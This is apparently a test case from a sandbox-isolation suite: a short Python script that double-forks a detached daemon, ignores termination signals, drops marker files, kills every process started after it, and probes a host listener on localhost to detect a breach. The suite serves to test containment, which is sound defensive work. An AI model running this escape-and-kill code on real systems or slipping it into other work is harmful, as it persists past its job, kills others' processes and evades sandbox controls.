# attack: a detached daemon (double fork, setsid, SIGTERM ignored) that outlives the worker and tries to reach the next submission
# expect: full
import os
import signal
import socket
import time


def _pids():
    return {int(p) for p in os.listdir("/proc") if p.isdigit()}


def _daemon():
    mine = _pids()  # this worker and what it came with: the daemon hunts whatever starts later
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    deadline = time.time() + 600
    while time.time() < deadline:
        for d in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
            try:
                with open(os.path.join(d, "ag-attack-daemon"), "w") as f:
                    f.write(str(os.getpid()))
            except OSError:
                pass
        for pid in _pids() - mine - {os.getpid()}:
            try:
                os.kill(pid, signal.SIGKILL)  # the next worker, if it can see it
            except OSError:
                pass
        try:
            socket.create_connection(("127.0.0.1", @PORT@), timeout=0.2).close()
            print("ATTACK-BREACH the daemon reached the host's listener", flush=True)
        except OSError:
            pass
        time.sleep(0.05)
    os._exit(0)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _daemon()
    os._exit(0)
os.wait()
